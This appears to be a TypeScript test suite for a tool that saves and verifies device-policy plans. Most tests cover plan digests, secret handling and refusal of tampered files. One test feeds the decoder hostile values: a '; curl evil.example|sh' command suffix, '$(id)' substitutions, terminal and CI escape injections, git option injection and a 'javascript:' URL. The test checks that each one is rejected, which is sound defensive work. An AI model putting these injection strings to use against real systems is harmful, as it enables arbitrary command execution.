import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sha256Of } from '#hashes';
import type { JsonObject } from '../../src/base/json.ts';
import { UserError } from '../../src/diagnostics/user-error.ts';
import type { ChangedSource, SavedFacts } from '../../src/generated/plan-file.ts';
import { allActions } from '../../src/plan/actions.ts';
import { planDigest } from '../../src/plan/digest.ts';
import type { PlanFacts } from '../../src/plan/facts.ts';
import type { Change, Plan } from '../../src/plan/plan.ts';
import { digestOfMany, planReportOf } from '../../src/plan/plan-report.ts';
import { decodePlanFile, encodePlanFile } from '../../src/plan/saved/plan-file.ts';
import { hasPlan, noPlan, type SavedPlan, savedPlanOf } from '../../src/plan/saved/saved-plan.ts';
import { stoppedSince, verifySavedPlan, verifyShown } from '../../src/plan/saved/verify-saved-plan.ts';
import { drawnPlanReport } from '../report/drawn-reports.ts';
import { type DesiredWords, planOf, policyBody, rungsFrom, type StateWords } from './fixtures.ts';

const tool = { version: '1.0.0', tables: '1' };
const secret = `scrypt:16384.8.1:${'1'.repeat(64)}`;
const wifi = (digest: string): JsonObject =>
  policyBody('Wi-Fi', { wifi: { service_set_identifier: 'Corp', password: digest } }, { users: [4, 9] });
const state: StateWords = {
  policies: {
    'policies/a.yaml': { policy_id: 12, body: policyBody('A', { password: { min_length: 8 } }) },
    'policies/same.yaml': { policy_id: 13, body: policyBody('Same', { password: { min_length: 8 } }) },
  },
};
const desired: DesiredWords[] = [
  { file: 'policies/a.yaml', body: policyBody('A', { password: { min_length: 12 } }) },
  { file: 'policies/same.yaml', body: policyBody('Same', { password: { min_length: 8 } }) },
  { file: 'policies/wifi.yaml', body: wifi(secret) },
];
const plan = planOf(desired, state);
const facts: PlanFacts = {
  leftBehind: [
    { policy_id: 12, name: 'A', file: 'policies/a.yaml', reason: 'superseded', since: null },
    {
      policy_id: 9,
      name: 'Old',
      file: 'policies/old.yaml',
      reason: 'file-removed',
      since: '2026-03-01T10:00:00.000Z',
    },
  ],
  exceeded: ['Too many.'],
};
const limits = { max_environments: 20 };
function textOf(planned: Plan, salt: string | null = null): string {
  const saved = savedPlanOf({ plan: planned, salt });
  const one = {
    environment: planned.environment,
    groups: ['eu'],
    wave: null,
    ...saved,
    failure: null,
    facts,
    notes: [],
  };
  return encodePlanFile(planReportOf([one], { is_one: true, left_out: [] }, limits), tool);
}
const read = (written: string) => decodePlanFile(new TextEncoder().encode(written), 'plan.json');
function savedIn(written: string): SavedPlan {
  const [only] = read(written).environments;
  if (!only || !hasPlan(only)) throw new Error('no plan was read');
  return only;
}
const text = textOf(plan);
const verify = (fresh: Plan) => verifySavedPlan(savedIn(text), fresh);
const withBody = (file: string, body: JsonObject) =>
  desired.map((each) => (each.file === file ? { ...each, body } : each));

describe('a saved plan', () => {
  it('holds for the very same plan, and keeps what was decided', () => {
    const saved = savedIn(text);
    expect(verifySavedPlan(saved, planOf(desired, state))).toEqual([]);
    expect(read(text)).toMatchObject({
      is_one: true,
      digest: plan.digest,
      environments: [{ groups: ['eu'], facts }],
    });
    expect(saved.plan.digest).toBe(plan.digest);
    expect(saved.plan.summary).toEqual(plan.summary);
    expect(saved.plan.changes.map(({ file, action }) => [file, action])).toEqual([
      ['policies/a.yaml', 'supersede'],
      ['policies/wifi.yaml', 'create'],
    ]);
  });

  it('keeps how far its files have climbed their ladders', () => {
    const ring = { ring: 'canary', policy_id: 1, since: null, content: 'wanted' as const };
    const ladders: PlanFacts['ladders'] = [
      {
        ...{ file: 'policies/a.yaml', ladder: 'macs', stop_at: null, stopped: null, skipped: null },
        rings: [{ ...ring, soaked_until: null, waits_for: null }],
      },
    ];
    const [one] = read(text).environments;
    const written = (facts: PlanFacts) =>
      one
        ? encodePlanFile(planReportOf([{ ...one, facts }], { is_one: true, left_out: [] }, limits), tool)
        : '';
    expect(read(written({ ...facts, ladders })).environments[0]?.facts).toEqual({ ...one?.facts, ladders });
    expect(read(written(facts)).environments[0]?.facts).not.toHaveProperty('ladders');
  });

  it('holds no thrown error, which may have secrets of its own', () => {
    const error = new UserError('it is down', { cause: new Error(secret) });
    const failure = { message: 'it is down', remedy: null, exitCode: 1, error } as const;
    const [one] = read(text).environments;
    if (!one) throw new Error('there is no plan');
    const failed = { ...one, ...noPlan, environment: 'down', failure };
    const report = planReportOf([one, failed], { is_one: false, left_out: [] }, limits);
    const { error: _, ...saved } = failure;
    expect(read(encodePlanFile(report, tool)).environments[1]?.failure).toEqual(saved);
  });

  it('holds neither a secret nor the digest of one', () => {
    expect(text).not.toContain(secret);
    expect(text).toContain('(sensitive)');
  });

  it('keeps the salt of a state that it would begin', () => {
    const first = planOf(desired, null);
    expect(savedIn(textOf(first, 'ab12')).salt).toBe('ab12');
  });
});

describe('a saved plan no longer holds', () => {
  it('when the state was written since', () => {
    const fresh = { ...plan, state: { ...plan.state, serial: 8 } };
    expect(verify(fresh)).toEqual([
      'The state has changed since the plan was made: its serial was 7, and is now 8.',
    ]);
  });

  it('when there is another state, or one at last', () => {
    expect(verify({ ...plan, state: { lineage: 'other', serial: 7 } })).toHaveLength(1);
    const first = savedIn(textOf(planOf(desired, null), 'ab'));
    expect(verifySavedPlan(first, plan)[0]).toMatch(
      /planned with no state at all, and there is a5b0d6a2-0000-4000-8000-000000000001 now\.$/,
    );
  });

  it('for another environment or service', () => {
    expect(verify({ ...plan, environment: 'local', service: 'embedded' })).toHaveLength(2);
  });

  it('when a file changed', () => {
    const fresh = planOf(
      withBody('policies/a.yaml', policyBody('A', { password: { min_length: 9 } })),
      state,
    );
    expect(verify(fresh)).toEqual(['policies/a.yaml: its content is not what was planned.']);
  });

  it('when a secret changed', () => {
    const fresh = planOf(withBody('policies/wifi.yaml', wifi(`scrypt:16384.8.1:${'2'.repeat(64)}`)), state);
    expect(fresh.digest).toBe(plan.digest);
    expect(verify(fresh)).toEqual(['policies/wifi.yaml: a secret in it is not the one that was planned.']);
  });

  it('when a name resolves to another user', () => {
    const body = {
      ...wifi(secret),
      policy_targets: { devices: [], devicegroups: [], users: [4, 7], usergroups: [] },
    };
    expect(verify(planOf(withBody('policies/wifi.yaml', body), state))).toEqual([
      'policies/wifi.yaml: its targets are different ids now (users -9 +7).',
    ]);
  });

  it('when there is more or less to do', () => {
    const more = [...desired, { file: 'policies/z.yaml', body: policyBody('Z', {}) }];
    expect(verify(planOf(more, state))).toEqual([
      'policies/z.yaml: it was not in the plan, and its action is now create.',
    ]);
    const less = desired.slice(0, 2);
    expect(verify(planOf(less, state))).toEqual([
      'policies/wifi.yaml: create was planned, but there is nothing to do now.',
    ]);
  });
});

describe('a plan of every kind of change', () => {
  const app = (address: string): JsonObject => ({
    name: 'Wiki',
    app_type: 'web',
    webapp_url: address,
    category: 'docs',
    icon: 'https://wiki.example.com/icon.png',
  });
  const moved = policyBody('Moved', { firewall: {} });
  const doubtful = policyBody('Doubtful', { filevault: {} });
  const full = planOf(
    [
      ...desired,
      { file: 'policies/new-name.yaml', body: moved },
      { file: 'policies/doubtful.yaml', body: doubtful },
      {
        file: 'policies/source.yaml',
        body: policyBody('Source', {}),
        sources: { secrets: {}, users: { ann: 7 } },
      },
      { file: 'web-apps/wiki.yaml', app_id: 9, body: app('https://wiki.example.com/new') },
      ...rungsFrom('policies/climb.yaml', 'Climb', { password: { min_length: 12 } }),
    ],
    {
      policies: {
        ...state.policies,
        'policies/old-name.yaml': { policy_id: 14, body: moved },
        'policies/gone.yaml': { policy_id: 15, body: policyBody('Gone', {}) },
        'policies/source.yaml': { policy_id: 16, body: policyBody('Source', {}) },
      },
      web_apps: { 'web-apps/wiki.yaml': { app_id: 9, body: app('https://wiki.example.com/old') } },
      pending: { 'policies/doubtful.yaml': { body: doubtful } },
    },
  );
  const saved = savedPlanOf({ plan: full, salt: null });
  const change = (file: string, other: Partial<Change>): Plan => {
    const changes = full.changes.map((each) => (each.file === file ? { ...each, ...other } : each));
    const { digest: _, ...unsigned } = { ...full, changes };
    return { ...unsigned, digest: planDigest(unsigned) };
  };
  const others: readonly (readonly [what: string, fresh: Plan, reason: RegExp])[] = [
    [
      'another action',
      change('policies/a.yaml', { action: 'create' }),
      /^policies\/a\.yaml: supersede was planned, but its action is now create\.$/,
    ],
    ['another policy', change('policies/a.yaml', { policy_id: 99 }), /^policies\/a\.yaml: .*policy id/],
    ['another web app', change('web-apps/wiki.yaml', { app_id: 10 }), /^web-apps\/wiki\.yaml: .*web app id/],
    [
      'another file before',
      change('policies/new-name.yaml', { previous_file: 'policies/other.yaml' }),
      /^policies\/new-name\.yaml: it comes from a different file now\.$/,
    ],
    ['no body', change('policies/a.yaml', { body: null }), /^policies\/a\.yaml: its content is not/],
    [
      'targets and more',
      change('policies/a.yaml', { body: policyBody('A', {}, { users: [1] }) }),
      /^policies\/a\.yaml: its content is not/,
    ],
    [
      'other targets of two kinds',
      change('policies/a.yaml', {
        body: policyBody('A', { password: { min_length: 12 } }, { devices: [3], users: [1] }),
      }),
      /^policies\/a\.yaml: its targets are different ids now \(devices \+3; users \+1\)\.$/,
    ],
    ['another name', change('policies/gone.yaml', { name: 'Other' }), /./],
    [
      'another file',
      change('policies/gone.yaml', { file: 'policies/g.yaml' }),
      /^policies\/g\.yaml: it was not in the plan, and its action is now/,
    ],
    ['another block', change('policies/doubtful.yaml', { blocked: 'choice' }), /./],
  ];

  it('has every kind of change', () => {
    const seen = new Set(full.changes.map(({ action }) => action));
    expect([...seen].sort()).toEqual([...allActions].sort());
    expect(verifySavedPlan(saved, full)).toEqual([]);
  });

  it.each(others)('is another plan with %s, by its digest and for an apply', (_, fresh, reason) => {
    expect(fresh.digest).not.toBe(full.digest);
    expect(verifySavedPlan(saved, fresh)[0]).toMatch(reason);
  });

  it('is another plan where a secret comes or goes, and the same for another file that is as recorded', () => {
    const withSecret = (fields: JsonObject) =>
      planOf([{ file: 'w.yaml', body: policyBody('W', { wifi: fields }) }], {
        policies: { 'w.yaml': { policy_id: 1, body: policyBody('W', { wifi: { password: secret } }) } },
      });
    const [gone, changed] = [withSecret({}), withSecret({ password: 'scrypt:16384.8.1:other' })];
    expect(gone.changes[0]?.diff).toMatchObject([{ sensitive: true, change: 'removed' }]);
    expect(new Set([gone.digest, changed.digest]).size).toBe(2);
    const { digest: _, ...unsigned } = full;
    const unchanged = full.changes.filter(({ action }) => action === 'no-op');
    expect(unchanged).toHaveLength(1);
    const without = full.changes.filter(({ action }) => action !== 'no-op');
    expect(planDigest({ ...unsigned, changes: without })).toBe(full.digest);
    expect(planDigest({ ...unsigned, state: { ...full.state, serial: 8 } })).not.toBe(full.digest);
    expect(planDigest({ ...unsigned, environment: 'local' })).not.toBe(full.digest);
    expect(planDigest({ ...unsigned, service: 'embedded' })).not.toBe(full.digest);
  });

  it('says all that became another one, sorted by file, and nothing of the files after another state', () => {
    const fresh = change('web-apps/wiki.yaml', { app_id: 10 });
    const both = {
      ...fresh,
      changes: fresh.changes
        .map((each) => (each.file === 'policies/a.yaml' ? { ...each, policy_id: 99 } : each))
        .reverse(),
    };
    expect(verifySavedPlan(saved, both).map((reason) => reason.split(':')[0])).toEqual([
      'policies/a.yaml',
      'web-apps/wiki.yaml',
    ]);
    const [reason, ...more] = verifySavedPlan(saved, { ...both, environment: 'local' });
    expect(reason).toContain('environment production, not for local');
    expect(more).toEqual([]);
    expect(verifySavedPlan(saved, { ...both, service: 'embedded' })).toEqual([
      'The plan is for the service https://mdm.example.com, not for embedded.',
    ]);
  });

  it('holds whoever is at work beside it', () => {
    const shown = { plan: saved.plan, facts };
    const reasonOf = (isAlive: boolean, answer: string | null) => ({
      kind: 'in-doubt' as const,
      name: 'Doubtful',
      since: '2026-03-01T10:00:00.000Z',
      answer,
      isGone: false,
      others: [],
      run: { holder: 'ann', isAlive, creates: isAlive },
    });
    const reasons = (reason: Change['reason']) => {
      const fresh = savedPlanOf({ plan: change('policies/doubtful.yaml', { reason }), salt: null });
      return verifyShown(shown, { ...shown, plan: fresh.plan });
    };
    expect(reasons(reasonOf(true, null))).toEqual([]);
    expect(reasons(reasonOf(false, null))).toEqual([]);
    expect(reasons(reasonOf(false, 'HTTP 500'))).toEqual([expect.stringContaining('policies/doubtful.yaml')]);
    const summary = { ...full.summary, no_op: 7 };
    expect(verifyShown(shown, { ...shown, plan: { ...saved.plan, summary } })).toEqual([
      'Its totals are different now.',
    ]);
  });
});

describe('what a saved plan shows', () => {
  it('holds while what a ring waits for, and until when, moves on', () => {
    const climbing = planOf(
      rungsFrom('policies/climb.yaml', 'Climb', { password: { min_length: 12 } }),
      null,
    );
    const soaking = (until: string | null): Plan => ({
      ...climbing,
      changes: climbing.changes.map((each) =>
        each.reason?.kind === 'waits' ? { ...each, reason: { ...each.reason, until } } : each,
      ),
    });
    const [one, other] = [soaking('2026-03-03T10:00:00.000Z'), soaking('2026-03-04T10:00:00.000Z')];
    expect(one).not.toEqual(other);
    expect(verifyShown({ plan: one, facts }, { plan: other, facts })).toEqual([]);
    const told = (reason: Change['reason']): Plan => ({
      ...other,
      changes: other.changes.map((each) => ({ ...each, reason })),
    });
    expect(verifyShown({ plan: one, facts }, { plan: told(null), facts })).toEqual([]);
    expect(verifyShown({ plan: one, facts }, { plan: told({ kind: 'renewed' }), facts })).toHaveLength(2);
  });

  const shown = { plan: savedIn(text).plan, facts };

  it('is what would be shown now', () => {
    const [only] = read(text).environments;
    expect(verifyShown({ ...shown, facts: only?.facts ?? facts }, shown)).toEqual([]);
  });

  it.each<[string, Partial<PlanFacts>]>([
    ['The policies that would stay live', { leftBehind: [] }],
    ['The limits', { exceeded: [] }],
    [
      'The warnings about the state',
      { stateWarnings: [{ code: 'no-state', refuses: false, message: 'none', remedy: null, commands: [] }] },
    ],
  ])('%s: is not what would be shown now', (words, other) => {
    const reasons = verifyShown(shown, { ...shown, facts: { ...facts, ...other } });
    expect(reasons).toEqual([expect.stringMatching(new RegExp(words, 'i'))]);
  });

  it('binds each fact that is shown', () => {
    const names = {
      leftBehind: 'would stay live',
      exceeded: 'limits',
      conflicts: 'contradict or repeat',
      affected: 'names of its targets',
      stateWarnings: 'warnings about the state',
      namedFiles: 'files that it leaves out',
      invariants: 'invariants',
      unchanged: 'as recorded',
      live: 'would be live',
      sources: 'places that its secrets come from',
      losses: 'settings that its targets would lose',
      additions: 'settings that it adds to those of its targets',
      suspicious: 'secrets that look like mistakes',
      ladders: 'ladders',
      recorded: 'recorded differently',
      copies: 'older copies of its files',
      portalUrl: 'addresses of its policies',
    } satisfies Record<Exclude<keyof SavedFacts, 'refusedAddress'>, string>;
    const isShown = (facts: PlanFacts, name: string): boolean => {
      // One that is there for waves only depends on other environments.
      if (name === 'ladders') return facts.ladders?.some(({ ladder }) => ladder !== null) ?? false;
      // A time that is yet to come is a matter of the clock.
      if (name === 'stateWarnings')
        return facts.stateWarnings?.some(({ code }) => code !== 'time-ahead') ?? false;
      const fact: unknown = Reflect.get(facts, name);
      return Array.isArray(fact) ? fact.length > 0 : fact !== undefined;
    };
    const moved: ChangedSource = {
      ...{ file: 'policies/wifi.yaml', kind: 'policy', path: '/macos/wifi/password' },
      before: { kind: 'env', name: 'EDICT_SECRET_A' },
      after: { kind: 'env', name: 'EDICT_SECRET_B' },
    };
    const seen = new Set<string>();
    for (const { environments } of fc.sample(drawnPlanReport, { numRuns: 30, seed: 1 })) {
      for (const { plan, facts: drawn } of environments) {
        const facts: PlanFacts = {
          ...drawn,
          sources: [moved],
          copies: [{ file: moved.file, policy_ids: [1] }],
          additions: [{ file: moved.file, targets: [], added: [] }],
        };
        for (const [name, words] of Object.entries(names)) {
          if (plan === null || !isShown(facts, name)) continue;
          seen.add(name);
          const others = { ...facts, [name]: name === 'exceeded' || name === 'leftBehind' ? [] : undefined };
          const said = [expect.stringContaining(words)];
          expect(verifyShown({ plan, facts }, { plan, facts: others })).toEqual(said);
          // Plans of many environments do not have it.
          expect(verifyShown({ plan, facts: others }, { plan, facts })).toEqual(name === 'live' ? [] : said);
        }
      }
    }
    expect([...seen].toSorted()).toEqual(Object.keys(names).toSorted());
  });

  it('says which files were stopped since, and of no other', () => {
    const stopped = (since: string) => ({
      reason: 'fans',
      since,
      by: { who: 'ann', commit: null, run: null },
    });
    const withStop = (file: string, stop: ReturnType<typeof stopped> | null) => ({
      ladders: [{ file, ladder: 'macs', stop_at: null, stopped: stop, skipped: null, rings: [] }],
    });
    const [file, early, late] = ['policies/a.yaml', '2026-03-01T10:00:00.000Z', '2026-03-02T10:00:00.000Z'];
    const before = withStop(file, stopped(early));
    expect(stoppedSince(before, before)).toEqual([]);
    expect(stoppedSince(before, withStop(file, null))).toEqual([]);
    const said = ['policies/a.yaml was stopped after the plan was made, by ann: fans.'];
    expect(stoppedSince(before, withStop(file, stopped(late)))).toEqual(said);
    expect(stoppedSince(withStop(file, null), before)).toEqual(said);
    expect(stoppedSince(withStop('policies/b.yaml', stopped(early)), before)).toEqual(said);
    expect(stoppedSince({}, before)).toEqual(said);
  });

  it('binds how each change looks', () => {
    const changes = shown.plan.changes.map((change) => ({
      ...change,
      diff: change.diff.map((field) => ({ ...field, strength: 'neutral' as const })),
    }));
    const reasons = verifyShown(shown, { ...shown, plan: { ...shown.plan, changes } });
    expect(reasons[0]).toBe('policies/a.yaml: what would change in it is different now.');
  });
});

describe('a file that is not an unchanged saved plan is refused', () => {
  const changed = (edit: (document: JsonObject) => void): string => {
    const document = JSON.parse(text);
    edit(document);
    return JSON.stringify(document);
  };
  const cases: Record<string, string> = {
    'cut off': text.slice(0, -20),
    empty: '',
    'no object': '[]',
    'of a later format': changed((document) => Object.assign(document, { format_version: 3 })),
    'with another body': text.replace('"min_length":12', '"min_length":4'),
    'with another shown difference': text.replace('"after":12', '"after":14'),
    'with another file name': text.replaceAll('policies/wifi.yaml', 'policies/wlan.yaml'),
    'with another thing said': text.replace('Too many.', 'All is well.'),
    'without its checksum': changed((document) => Reflect.deleteProperty(document, 'checksum')),
    'with a change that is none': changed((document) => Object.assign(document, { environments: [null] })),
    'with an unknown action': text.replaceAll('"supersede"', '"delete"'),
    'nested without end': `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
    'with a prototype in it': text
      .replace('"format_version"', '"__proto__":{"salt":"x"},"format_version"')
      .replace('"salt":null,', ''),
    'with a space more': text.replace('{"format_version"', '{ "format_version"'),
    'with another line end': text.replace(/\n$/, '\r\n'),
    'with a letter written as an escape': text.replace('Too', '\\u0054oo'),
  };
  it.each(Object.entries(cases))('%s', (_name, damaged) => {
    expect(damaged).not.toBe(text);
    expect(() => read(damaged)).toThrow(/plan\.json is not a saved plan that can be used/);
  });

  it('with bytes that are no UTF-8, or a mark before it', () => {
    for (const bytes of [
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]),
      Buffer.from(text.replace('Too', 'T\u00ff'), 'latin1'),
    ])
      expect(() => decodePlanFile(bytes, 'plan.json')).toThrow(/plan\.json is not a saved plan/);
  });

  const withChecksum = (content: string): string =>
    `${content.slice(0, -1)},"checksum":"${sha256Of(content)}"}\n`;
  const content = text.replace(/,"checksum":"[0-9a-f]{64}"\}\n$/, '}');

  it('even where the checksum was made anew', () => {
    expect(withChecksum(content)).toBe(text);
    expect(() => read(withChecksum(content.replace('"min_length":12', '"min_length":4')))).toThrow(/digest/);
    expect(() => read(withChecksum(content.replace('"create":1', '"create":7')))).toThrow(/summary/);
  });

  it.each<[string, RegExp, (document: JsonObject, one: JsonObject) => object]>([
    [
      'an environment twice',
      /twice/,
      (document, one) => ({ ...document, is_one: false, environments: [one, one] }),
    ],
    ['no plan', /no plan/, (document, one) => ({ ...document, environments: [{ ...one, plan: null }] })],
    [
      'another environment besides the one that was asked for',
      /or several/,
      (document, one) => ({
        ...document,
        environments: [one, { ...one, environment: 'other', ...noPlan }],
        digest: digestOfMany([plan]),
      }),
    ],
    [
      'a plan of another environment',
      /under the name of another environment/,
      (document, one) => ({ ...document, environments: [{ ...one, environment: 'local' }] }),
    ],
    ['another digest', /digest/, (document) => ({ ...document, digest: '0'.repeat(64) })],
    ['a format to come', /another version of edict/, (document) => ({ ...document, format_version: 3 })],
    ['the first format', /another version of edict/, (document) => ({ ...document, format_version: 1 })],
    [
      'a field of another type',
      /: digest is not valid \(type\)$/,
      (document) => ({ ...document, digest: 7 }),
    ],
    ['a field less', /: the file is not valid \(required\)$/, ({ exceeded: _, ...document }) => document],
  ])('with %s', (_, why, edit) => {
    const document = JSON.parse(content);
    const written = JSON.stringify(edit(document, document.environments[0]));
    expect(() => read(withChecksum(written))).toThrow(why);
  });

  const withCommands = (commands: readonly string[]) => (document: JsonObject, one: JsonObject) => ({
    ...document,
    environments: [
      {
        ...one,
        facts: {
          ...(one.facts as object),
          stateWarnings: [{ code: 'no-state', refuses: false, message: 'None.', remedy: null, commands }],
        },
      },
    ],
  });
  const withSuffix = (suffix: string) => (document: JsonObject) => ({ ...document, command_suffix: suffix });
  const comparison = {
    ...{ base: 'main', since: 'base', behind: null, environments: null, loosened: [] },
    ...{ changed_states: [], unjudged: [], not_compared: null },
  };
  const withGuards = (guards: object) => (document: JsonObject) => ({
    ...document,
    guards: [{ ...comparison, ...guards }],
  });
  it.each<[string, (document: JsonObject, one: JsonObject) => object]>([
    ['another program', withSuffix('; curl evil.example|sh')],
    ['a comment that hides the rest', withSuffix(' --env e #')],
    ['another option', withSuffix(' --auto-approve')],
    ['a substitution', withSuffix(' --config $(id)')],
    ['a quote that does not end', withSuffix(" --config 'a")],
    ['a quote that ends too soon', withSuffix(" --config 'a'$(id)''")],
    ['an escape for the terminal', withSuffix(" --config 'a\u001b[31mb'")],
    ['a command for a CI system', withSuffix(" --config 'a\n::error::pwn'")],
    ['an escape in a warning', withCommands(['edict state \u001b[8minit'])],
    ['a line of its own', withCommands(['edict state init\n::error::pwn'])],
    ['no commit', withGuards({ not_compared: { commit: '--upload-pack=evil', why: 'it is not here' } })],
    ['no branch', withGuards({ behind: { commits: 1, of: '--exec=evil' } })],
  ])('with a command that has %s', (_, edit) => {
    const document = JSON.parse(content);
    const written = JSON.stringify(edit(document, document.environments[0]));
    expect(() => read(withChecksum(written))).toThrow('it has a command that edict does not write');
  });

  it.each<[string, (document: JsonObject, one: JsonObject) => object]>([
    ['an environment', withSuffix(" --env eu/a --config 'my edict.yaml'")],
    ['a selection', withSuffix(" --envs 'eu/*,!eu/b' --config 'o'\\''clock.yaml'")],
    [
      'commands',
      withCommands(["git show '0ab1:state/ä.json' | edict state push", "edict state init --env 'b c'"]),
    ],
    ['a commit', withGuards({ not_compared: { commit: '0ab1', why: 'it is not here' } })],
  ])('but not with %s as edict writes it', (_, edit) => {
    const document = JSON.parse(content);
    const written = JSON.stringify(edit(document, document.environments[0]));
    expect(read(withChecksum(written)).digest).toBe(document.digest);
  });

  it('with a link to a portal that runs a script', () => {
    const document = JSON.parse(content);
    document.environments[0].facts.portalUrl = 'javascript:alert(1)//{id}';
    expect(() => read(withChecksum(JSON.stringify(document)))).toThrow('no web address');
  });

  it('where it is nested more deeply than any plan, or larger', () => {
    const nested = text.replace('"min_length":12', `"min_length":${'['.repeat(200)}${']'.repeat(200)}`);
    expect(() => read(nested)).toThrow('nested too deeply');
    const large = new Uint8Array(300 * 1024 * 1024);
    expect(() => decodePlanFile(large, 'plan.json')).toThrow('too large');
  });

  it('as a file that is at fault, with the command that writes it again', () => {
    const refused = expect.objectContaining({
      exitCode: 3,
      remedy: expect.stringContaining('edict plan --out FILE'),
    });
    expect(() => read('{')).toThrow(refused);
    expect(() => read('{')).toThrow(/it is not JSON, or is cut off$/);
  });

  it('where it can be read in two ways', () => {
    const twice = content.replace('"exceeded":["Too many."]', '"exceeded":[],"exceeded":["Too many."]');
    expect(() => read(withChecksum(twice))).toThrow(/changed after it was written/);
  });
});
